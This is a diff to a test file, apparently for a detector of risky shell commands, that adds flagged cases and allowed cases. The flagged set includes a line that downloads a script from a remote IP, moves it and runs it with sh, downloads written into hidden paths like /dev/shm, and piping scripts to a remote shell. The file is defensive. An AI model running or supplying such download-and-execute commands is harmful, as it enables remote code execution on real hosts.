@@ -27,7 +27,11 @@ measured:
   interpreter preloads from one (``node --require``, ``ruby -r``, ``perl -I``, ``php -d
   auto_prepend_file=``), inline code that runs or loads a file there (``exec(open(F).read())``,
   ``runpy.run_path``, ``ctypes.CDLL``), ``ssh HOST < FILE`` with no command and ``cat F | ssh HOST
-  'bash -s'``.
+  'bash -s'``;
+- after the held-out part was measured (its misses looked at, so these are not held-out figures):
+  ``perl -x FILE`` read as code (its ``-x`` names no code), a download moved by a pattern (``mv kit_*
+  /tmp``), a download written by a redirect into a hiding place (``wget -O - URL > /var/run/x``) and
+  ``/var/run`` as one.
 """
 
 from __future__ import annotations
@@ -86,6 +90,12 @@ HELD = {
         "ssh ops@web2 < ./steps.txt",
         "cat ops/fix.sh | ssh -T web2 'bash -s -- --dry-run'",
     ],
+    "after the held-out part was seen": [
+        "ruby -x /var/tmp/.rb/r",
+        "curl -fsS http://192.0.2.9/k -o /tmp/k-1.sh && mv /tmp/k-* /opt/ && sh /opt/k-1.sh",
+        "curl -s http://192.0.2.9/m > /dev/shm/m",
+        "/var/run/.udevd",
+    ],
     "data run as code by a cutter": [
         "split -l 5 --filter=bash jobs.txt",
         "tar -xf payload.tar --to-command='sh'",
@@ -118,4 +128,8 @@ ALLOWED = [
     "find ./bin -type f -exec chmod +x {} \\;",
     "ssh web2 'df -h' < /dev/null",
     "git bundle create - HEAD | ssh web2 'cat > repo.bundle'",
+    "perl -x tools/embedded.txt",
+    "curl -s https://api.example.com/v1/items > /tmp/items.json",
+    "cp dist/app-*.whl /tmp/wheels/",
+    "cat /var/run/app.pid",
 ]
